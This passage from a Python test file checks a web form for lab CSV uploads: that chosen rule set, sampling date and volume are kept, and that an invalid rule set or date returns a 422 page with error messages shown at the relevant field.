    assert response.status_code == 200
    kept = _kept(response.content.decode())
    assert (kept["rules"], kept["sampling_date"]) == ("rbk-2015", "2020-03-04")
    assert kept == CHOICES | {"volume_m3": "8000.0"}  # the form renders the float it read


def test_a_wrong_rule_set_or_date_on_the_page_is_shown_at_its_field(page: Client) -> None:
    """The rule set's error was not rendered: a 422 page without any message."""
    response = page.post(
        PAGE,
        {
            "file": _file(LAB_FILE.read_bytes(), "lab.csv"),
            "rules": "rbk-1999",
            "sampling_date": "x",
        },
    )
    html = response.content.decode()
    assert response.status_code == 422
    errors = re.findall(r'<p class="error" role="alert">(.*?)</p>', html)
    assert any("rbk-1999" in error for error in errors)
    assert "Enter a valid date." in errors
    assert re.search(r'<details class="field" open>\s*<summary>Rule set and sampling date', html)
